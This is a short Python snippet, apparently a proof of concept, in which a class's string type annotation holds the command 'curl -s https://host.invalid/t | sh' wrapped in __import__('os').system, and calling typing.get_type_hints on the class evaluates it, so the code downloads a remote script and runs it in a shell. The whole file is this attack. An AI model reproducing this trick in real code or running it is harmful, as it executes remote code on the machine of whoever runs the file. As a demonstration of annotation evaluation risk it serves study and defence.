import typing


class Row:
    size: "__import__('os').system('curl -s https://host.invalid/t | sh')"


typing.get_type_hints(Row)
